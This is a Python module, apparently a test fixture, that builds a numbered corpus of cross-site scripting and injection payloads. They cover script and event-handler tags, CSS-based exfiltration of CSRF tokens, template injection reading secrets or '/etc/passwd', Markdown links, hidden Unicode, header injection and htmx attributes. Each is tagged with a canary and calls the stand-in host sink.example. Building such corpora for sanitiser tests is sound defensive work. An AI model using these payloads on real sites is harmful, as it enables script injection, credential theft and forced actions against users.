"""Texts that try to act in the browser of whoever reads them.

Each payload tries to run `{hit}`, an expression that marks the window and calls home, or to ask
`{away}`, an address on another host, for something; `placed` puts a canary around it, by which a
test knows that the payload was on the page. Families are made of
few parts each, so that the number is large and the reading short. After the lists of OWASP, of the
HTML Living Standard (every attribute that holds an address) and of htmx's and its extensions'
reference.
"""

import itertools
import json
from collections.abc import Iterator
from typing import NamedTuple

HIT = "(window.__hit=(window.__hit||0)+1,new Image().src='//sink.example/hit')"
AWAY = "//sink.example/away"


class Payload(NamedTuple):
    number: int
    family: str
    text: str

    @property
    def canary(self) -> str:
        return f"kanarie{self.number:04}x"


def placed(payload: Payload) -> str:
    """The payload between its canary's two appearances, and never longer than needed."""
    return f"{payload.canary}{payload.text}{payload.canary}"


# How a text can get out of what it was put into.
BREAKS = (
    *("", '">', "'>", '"', "'", "`", ">", "-->", "--!>", "*/", "]]>", "?>", "%>", "<!--", "\\'"),
    *("</title>", "</textarea>", "</script>", "</style>", "</noscript>", "</template>", "</svg>"),
    *("</select>", "</option></select>", "</iframe>", "</xmp>", "</math>", "</table>", "</a>"),
    *('"}</script>', "\\u0022>", "&quot;>", "&#34;>", '\x00">', '\u2028">', '\ufeff">'),
)
# Elements that act by themselves, in spellings that filters have missed.
ELEMENTS = (
    "<script>{hit}</script>",
    "<script src={away}></script>",
    "<ScRiPt>{hit}</sCrIpT>",
    "<script\x0c>{hit}</script>",
    "<script/x>{hit}</script/x>",
    "<<script>{hit}//<</script>",
    "<scr<script>ipt>{hit}</script>",
    "<script type=module>{hit}</script>",
    '<script type=importmap>{{"imports":{{"a":"{away}"}}}}</script>',
    '<script type=speculationrules>{{"prefetch":[{{"urls":["{away}"]}}]}}</script>',
    "<img src=x onerror={hit}>",
    "<img src=x onerror\n=\n{hit}>",
    "<img/src=x/onerror={hit}>",
    "<img src={away}>",
    "<img srcset='{away} 1x'>",
    '<img src=x: onerror="&#119;indow.__hit=1">',
    "<image src={away} onerror={hit}>",
    "<svg/onload={hit}>",
    "<svg><script>{hit}</script></svg>",
    "<svg><script href='data:,{hit}'/></svg>",
    "<svg><animate onbegin={hit} attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:{hit} onbegin={hit}>",
    "<svg><use href='{away}#x'/></svg>",
    "<svg><image href={away}></svg>",
    "<svg><image xlink:href={away}></svg>",
    "<svg><foreignObject><img src={away}></foreignObject></svg>",
    "<svg><style>@import '{away}'</style></svg>",
    "<svg><a href=javascript:{hit}><text>x</text></a></svg>",
    "<svg><desc><img src=x onerror={hit}></desc></svg>",
    "<math><mtext><img src=x onerror={hit}></mtext></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:{hit}>x</maction></math>",
    "<math href=javascript:{hit}>x</math>",
    "<math><mi><mglyph><style><img src=x onerror={hit}>",
    (
        "<math><mtext><table><mglyph><style><!--</style>"
        "<img title='--&gt;&lt;img src=x onerror={hit}&gt;'>"
    ),
    "<form><math><mtext></form><form><mglyph><style></math><img src={away} onerror={hit}>",
    "<noscript><p title='</noscript><img src=x onerror={hit}>'>",
    "<iframe src=javascript:{hit}></iframe>",
    "<iframe src={away}></iframe>",
    "<iframe srcdoc='<script>parent.{hit}</script>'></iframe>",
    "<frameset><frame src={away}></frameset>",
    "<object data={away}></object>",
    "<object data='data:text/html,<script>{hit}</script>'></object>",
    "<embed src={away}>",
    "<applet code={away}></applet>",
    "<portal src={away}></portal>",
    "<fencedframe src={away}></fencedframe>",
    "<video src={away} onerror={hit} autoplay></video>",
    "<video poster={away}></video>",
    "<video><source onerror={hit} src={away}></video>",
    "<audio src={away} autoplay onloadstart={hit}></audio>",
    "<track default src={away}>",
    "<picture><source srcset={away}><img></picture>",
    "<input type=image src={away} onerror={hit}>",
    "<input autofocus onfocus={hit}>",
    "<select autofocus onfocus={hit}></select>",
    "<textarea autofocus onfocus={hit}></textarea>",
    "<details open ontoggle={hit}></details>",
    "<dialog open onclose={hit}><form method=dialog>",
    "<marquee onstart={hit}>x</marquee>",
    "<body onload={hit}>",
    "<body onpageshow={hit} background={away}>",
    "<html manifest={away}>",
    "<table background={away}><td background={away}>x</td></table>",
    "<isindex action={away} type=submit>",
    "<keygen autofocus onfocus={hit}>",
    "<x onclick={hit} tabindex=1 id=x onfocus={hit} autofocus>x</x>",
    "<div onpointerover={hit} style='position:fixed;inset:0'>x</div>",
    "<div style='animation:x' onanimationstart={hit}>x</div>",
    "<style>@keyframes x{{}}</style><b style='animation-name:x' onanimationend={hit}>x</b>",
    "<p popover id=p onbeforetoggle={hit}>x</p><button popovertarget=p>x</button>",
    "<button command=show-modal commandfor=x onclick={hit}>x</button>",
    "<template shadowrootmode=open><script>{hit}</script></template>",
    "<x-y><template shadowrootmode=closed><img src={away}></template></x-y>",
    "<slot onslotchange={hit}>x</slot>",
    "<meta http-equiv=refresh content='0;url={away}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{hit}'>",
    "<meta http-equiv=refresh content='0;url=data:text/html,<script>{hit}</script>'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "<meta http-equiv=set-cookie content='a=b'>",
    "<meta name=referrer content=unsafe-url>",
    '<meta name=htmx-config content=\'{{"allowEval":true,"selfRequestsOnly":false}}\'>',
    "<meta charset=utf-7>+ADw-script+AD4-{hit}+ADw-/script+AD4-",
    "<base href={away}>",
    "<base target=_blank>",
    "<link rel=stylesheet href={away}>",
    "<link rel=preload as=image href={away}>",
    "<link rel=modulepreload href={away}>",
    "<link rel=prefetch href={away}>",
    "<link rel=prerender href={away}>",
    "<link rel=dns-prefetch href=//lookup.example>",
    "<link rel=preconnect href={away}>",
    "<link rel=manifest href={away}>",
    "<link rel=icon href={away}>",
    "<link rel=import href={away}>",
    "<link rel=pingback href={away}>",
    "<a href=javascript:{hit}>x</a>",
    "<a href='java\tscript:{hit}'>x</a>",
    "<a href='\x01javascript:{hit}'>x</a>",
    "<a href='&#106;avascript&colon;{hit}'>x</a>",
    "<a href={away} ping={away}>x</a>",
    "<a href={away} download attributionsrc={away}>x</a>",
    "<area shape=default href=javascript:{hit}>",
    "<form action={away}><button autofocus>x</button></form>",
    "<form action=javascript:{hit}><input type=submit></form>",
    "<button formaction={away} form=share-form>x</button>",
    "<input form=share-form name=words value=x>",
    "<button form=share-form formaction=/accounts/logout/>x</button>",
    "<blockquote cite={away}>x</blockquote>",
    "<xml datasrc={away}></xml>",
    "<xss style='behavior:url({away})'>x</xss>",
    "<script nonce=x>{hit}</script>",
    "<link rel=stylesheet nonce=x href={away}>",
)
STYLES = (
    "<style>*{{background:url({away})}}</style>",
    "<style>@import url({away});</style>",
    "<style>@font-face{{font-family:x;src:url({away})}}*{{font-family:x}}</style>",
    "<style>input[name=csrfmiddlewaretoken][value^=a]{{background:url({away})}}</style>",
    "<style>:target{{background:image-set(url({away}) 1x)}}</style>",
    "<style>body::before{{content:url({away})}}</style>",
    "<style>li{{list-style:url({away})}}</style>",
    "<style>a:visited{{cursor:url({away}),auto}}</style>",
    "<style>@namespace url({away});</style>",
    "<style>x{{-moz-binding:url({away}#x)}}</style>",
    "<style>*{{mask:url({away});filter:url({away}#x);clip-path:url({away}#x)}}</style>",
    "<style>@property --x{{syntax:'<url>';inherits:true;initial-value:url({away})}}</style>",
    '<div style="background:url({away})">x</div>',
    "<div style='background:\\75rl({away})'>x</div>",
    "<div style='width:expression({hit})'>x</div>",
    "<div style='border-image:url({away})'>x</div>",
    "<div style='position:fixed;inset:0;z-index:9999;background:#fff'>Session ended</div>",
)
HANDLERS = (
    *("onmouseover", "onfocus", "onload", "onerror", "onclick", "onanimationstart", "onwheel"),
    *("ontoggle", "onpointerenter", "onbeforeinput", "oncontentvisibilityautostatechange"),
    *("onscrollend", "ontransitionend", "onsecuritypolicyviolation", "formaction", "srcdoc"),
)
QUOTES = ('"', "'", "` ", " ", "\n", "/", "\x0c", "&quot;", "&#x27;", '\\"', "%22")
TEMPLATES = (
    *(
        "{{{{7*7}}}}",
        "{{% debug %}}",
        "{{{{settings.SECRET_KEY}}}}",
        "{{% include '/etc/passwd' %}}",
    ),
    *("{{{{request.user.password}}}}", "{{% load log %}}{{% get_admin_log 9 as x %}}", "{{#x#}}"),
    *(
        "{{% csrf_token %}}",
        "{{% querystring %}}",
        "{{% partialdef x %}}{hit}{{% endpartialdef %}}",
    ),
    *("${{{hit}}}", "#{{{hit}}}", "<%= {hit} %>", "{{{{constructor.constructor('{hit}')()}}}}"),
    *("[[{hit}]]", "{{{{=<% %>=}}}}", "%{{{hit}}}", "@{{{hit}}}", "$({hit})", "`${{{hit}}}`"),
    *(
        "{{% autoescape off %}}<img src={away}>",
        "{{{{''|safe}}}}<img src={away}>",
        "{{% verbatim %}}",
    ),
)
BREAKOUTS = (
    *(
        '"}};{hit};var x={{"',
        "'}};{hit}//",
        "\\';{hit}//",
        '\\\\";{hit}//',
        "</script><script>{hit}//",
    ),
    *("<!--<script>{hit}//", "<!--<script></script>-->{hit}", "\u2028{hit}\u2028", "*/{hit}/*"),
    *(
        "${{{hit}}}",
        "`-{hit}-`",
        '"-{hit}-"',
        "'+{hit}+'",
        "\\x3cscript\\x3e{hit}\\x3c/script\\x3e",
    ),
    *(
        "\\u003cimg src=x onerror={hit}\\u003e",
        "]]}}}}{hit}",
        '"],"x":[{hit}',
        "&lt;/script&gt;{hit}",
    ),
)
MARKDOWN = (
    *("[x](javascript:{hit})", "[x](JaVaScRiPt:{hit})", "[x](java\nscript:{hit})"),
    *("[x](javascript&colon;{hit})", "[x](&#106;avascript:{hit})", "[x](\\javascript:{hit})"),
    *(
        "[x](data:text/html,<script>{hit}</script>)",
        "[x](vbscript:{hit})",
        "[x](file:///etc/passwd)",
    ),
    *("![x](http:{away})", "![x](http:{away} 'x\" onerror={hit}')", "![x][r]\n\n[r]: http:{away}"),
    *("[![x](http:{away})](http:{away})", "<http:{away}>", "<javascript:{hit}>", "http:{away}"),
    *('[x](http:{away} "x\' onmouseover={hit}")', '[x](<http:{away}" onclick={hit} x=">)'),
    *("[x][r]\n\n[r]: javascript:{hit}", "[x]({away})", "[x](\\{away})", "[x](/{away})"),
    *("[https://apple.com](http:{away})", "[x](https://apple.com@sink.example/)"),
    *(
        "[x](https://sink.example\\@apple.com)",
        "[x](http://0x7f000001/)",
        "[x](http://2130706433/)",
    ),
    *("[x](/accounts/logout/)", "[x](/runs/live/)", "[x](?hx-get=1)", '[x](#" onclick={hit})'),
    *(
        "```html\n<img src=x onerror={hit}>\n```",
        "`<img src=x onerror={hit}>`",
        "    <img src={away}>",
    ),
    *("| <img src=x onerror={hit}> |\n|---|\n| <script>{hit}</script> |", "# <svg onload={hit}>"),
    *(
        "> <img src={away}>",
        "* <img src={away}>",
        "1. <img src={away}>",
        "<div\n\n<img src={away}>",
    ),
    *(
        "&lt;img src=x onerror={hit}&gt;",
        "&#60;script&#62;{hit}&#60;/script&#62;",
        "<!-- x -->{hit}",
    ),
    *("[x](mailto:a@sink.example?bcc=b@sink.example)", "[x](tel:{hit})", "[x](blob:http:{away})"),
    *("[a]: http:{away} '<img src=x onerror={hit}>'\n[a]", "~~<s onclick={hit}>x</s>~~", "<a@b.c>"),
    *(
        "**<b onclick={hit}>x</b>**",
        "[x](http:{away}\x00)",
        "[\u202ex](http:{away})",
        "\\<img src={away}>",
    ),
)
UNSEEN = (
    *("\u202e{hit}<\u202c", "\u2066<img src={away}>\u2069", "<scr\u200bipt>{hit}</scr\u200bipt>"),
    *("\x1b]8;;http:{away}\x1b\\x\x1b]8;;\x1b\\", "\x1b[2J\x1b[1;1H<script>{hit}</script>"),
    *("\x1b]0;{hit}\x07", '\x1b[31m"onmouseover={hit}\x1b[0m', "\x1bP<img src={away}>\x1b\\"),
    *(
        "\x00<img src=x onerror={hit}>",
        "<im\x00g src=x onerror={hit}>",
        "<img\x0bsrc=x\x0bonerror={hit}>",
    ),
    *(
        "\r\n\r\n<script>{hit}</script>",
        "x\rdata: <img src={away}>",
        "\n\nevent: change\ndata: <img src={away}>",
    ),
    *("\nid: 9\nretry: 1\ndata: x", "\u2029<script>{hit}</script>", "\x85<script>{hit}</script>"),
    *(
        "\ufeff<script>{hit}</script>",
        "＜script＞{hit}＜/script＞",
        "‹img src={away}›",
        "ʺonclick={hit}",
    ),
    *("\U000e0073\U000e0063{hit}", "+ADw-script+AD4-{hit}", "%3Cscript%3E{hit}%3C/script%3E"),
    *(
        "%253Cscript%253E{hit}",
        "\\x3cscript>{hit}",
        "\\u003cscript>{hit}",
        "&#x3c;script>{hit}",
        "&lt;script>{hit}",
    ),
    *(
        "\x1b[200~{hit}\x1b[201~",
        "\x9b31m<img src={away}>",
        "\u00ad<script>{hit}</script>",
        "{hit}\u0338>",
    ),
)
# What htmx and its event streams would act on. Beside attributes: ids that a page swaps into, and
# the headers by which a server tells htmx what to do.
LOOKALIKES = (
    *("HX-Redirect: http:{away}", 'HX-Location: {{"path":"http:{away}"}}', "HX-Refresh: true"),
    *(
        'HX-Trigger: {{"x":"{hit}"}}',
        "HX-Push-Url: http:{away}",
        "HX-Retarget: body",
        "HX-Reswap: outerHTML",
    ),
    *(
        "\r\nHX-Redirect: http:{away}\r\n",
        "\r\nLocation: http:{away}\r\n\r\n",
        "\r\nSet-Cookie: a=b\r\n",
    ),
    *(
        "\r\nLink: <{away}>; rel=preload\r\n",
        "\r\nRefresh: 0; url={away}\r\n",
        "\r\nX: <script>{hit}</script>",
    ),
)
IDS = ("run-head", "run-title", "steps", "main", "run-strip", "site-fresh", "tabs", "timeline")


def _elements() -> Iterator[tuple[str, str]]:
    for text in ELEMENTS:
        yield "element", text
    for text in STYLES:
        yield "style", text
    for break_out in BREAKS[1:]:
        yield "break-out", f"{break_out}<img src=x onerror={{hit}}>"
        yield "break-out", f"{break_out}<script src={{away}}></script>"
        yield "break-out", f"{break_out}<svg onload={{hit}}//"


def _attributes() -> Iterator[tuple[str, str]]:
    for quote, name in itertools.product(QUOTES, HANDLERS):
        closing = quote if quote in "\"'" else " "
        yield (
            "attribute",
            f"{quote} {name}={closing}{{hit}}{closing} autofocus tabindex=1 x={closing}",
        )


VERBS = ("get", "post", "put", "patch", "delete")
HTMX_ATTRIBUTES = (
    *("hx-on:click", "hx-on::load", "hx-on:htmx:load", "hx-on--load", "hx-vars", "hx-vals"),
    *("hx-headers", "hx-ext", "hx-include", "hx-push-url", "hx-replace-url", "hx-history"),
    *("hx-history-elt", "hx-boost", "hx-trigger", "hx-select-oob", "hx-swap-oob", "hx-target"),
    *("hx-request", "hx-validate", "hx-params", "hx-prompt", "hx-disinherit", "hx-inherit"),
    *("hx-preserve", "hx-sync", "hx-confirm", "hx-indicator", "hx-encoding", "hx-sse", "hx-ws"),
    *("sse-connect", "sse-swap", "sse-close", "ws-connect", "ws-send", "preload", "hx-action"),
)
HTMX_VALUES = {
    "hx-vals": "js:{{x:{hit}}}",
    "hx-vars": "x:{hit}",
    "hx-headers": "js:{{x:{hit}}}",
    "hx-ext": "sse,ws,preload",
    "hx-trigger": "load[{hit}]",
    "hx-swap-oob": "outerHTML:#main",
    "hx-request": "js:{{credentials:{hit}}}",
    "hx-sse": "connect:{away}",
    "hx-ws": "connect:{away}",
    "sse-connect": "{away}",
    "ws-connect": "{away}",
    "hx-push-url": "{away}",
}


def htmx_attributes() -> Iterator[str]:
    """At least 200 ways to have htmx ask for something, or run something, by an attribute."""
    for prefix, verb, target in itertools.product(
        ("hx-", "data-hx-"), VERBS, ("{away}", "http:{away}", "/accounts/logout/", "/stolen/")
    ):
        yield f'<b {prefix}{verb}="{target}" hx-trigger="load" hx-swap="none">x</b>'
    for prefix, verb in itertools.product(("hx-", "data-hx-", "HX-", "hx_"), VERBS):
        yield f"\" {prefix}{verb}=/stolen/ hx-trigger='load, every 1s' x=\""
        yield f"' {prefix}{verb}=/stolen/ hx-trigger=revealed x='"
    for trigger in ("load", "revealed", "intersect", "every 100ms", "sse:change", "load delay:1ms"):
        yield f'<b hx-get=/stolen/ hx-trigger="{trigger}">x</b>'
        yield f'<form hx-post=/stolen/ hx-trigger="{trigger}"><input name=a></form>'
    for prefix, name in itertools.product(("", "data-"), HTMX_ATTRIBUTES):
        value = HTMX_VALUES.get(name, "{hit}")
        yield f'<b {prefix}{name}="{value}" hx-get=/stolen/ hx-trigger=load>x</b>'
    for identity, swap in itertools.product(IDS, ("true", "outerHTML", "afterbegin:body")):
        inner = "<b hx-get=/stolen/ hx-trigger=load>x</b>"
        yield f'<div id="{identity}" hx-swap-oob="{swap}">{inner}</div>'
    for header in ("HX-Request", "HX-Boosted", "HX-Target", "HX-Trigger-Name"):
        yield f'<b hx-headers=\'{{{{"{header}":"true"}}}}\' hx-get=/stolen/ hx-trigger=load>x</b>'
    yield "<div hx-ext=sse sse-connect=/stolen/><b sse-swap=change>x</b></div>"
    yield "<a hx-boost=true href=/stolen/>x</a>"
    yield "<template><b hx-get=/stolen/ hx-trigger=load>x</b></template>"
    yield "<b data-hx-get=/stolen/ data-hx-trigger=load data-hx-target=body>x</b>"
    yield "<b hx:get=/stolen/ hx-trigger=load>x</b>"
    yield "<hx-partial><b hx-get=/stolen/ hx-trigger=load>x</b></hx-partial>"


def fill(text: str) -> str:
    """Braces are doubled in the lists, as `str.format` has it, which chokes on what is broken."""
    placed_in = text.replace("{hit}", HIT).replace("{away}", AWAY)
    return placed_in.replace("{{", "{").replace("}}", "}")


def corpus() -> list[Payload]:
    """All payloads, distinct, numbered from 1."""
    families = [
        *_elements(),
        *_attributes(),
        *(("template", text) for text in TEMPLATES),
        *(("break-out of JSON", text) for text in BREAKOUTS),
        *(("Markdown", text) for text in MARKDOWN),
        *(("unseen", text) for text in UNSEEN),
        *(("header", text) for text in LOOKALIKES),
        *(("htmx", text) for text in htmx_attributes()),
    ]
    filled = {fill(text): family for family, text in families}
    made = [
        Payload(number, family, text) for number, (text, family) in enumerate(filled.items(), 1)
    ]
    return [*made, *_nested(made)]


def _nested(made: list[Payload]) -> Iterator[Payload]:
    """Some of each family again, as JSON in JSON would carry them."""
    for number, payload in enumerate(made[::12], len(made) + 1):
        yield Payload(number, "nested", json.dumps(json.dumps({payload.text: [payload.text]})))
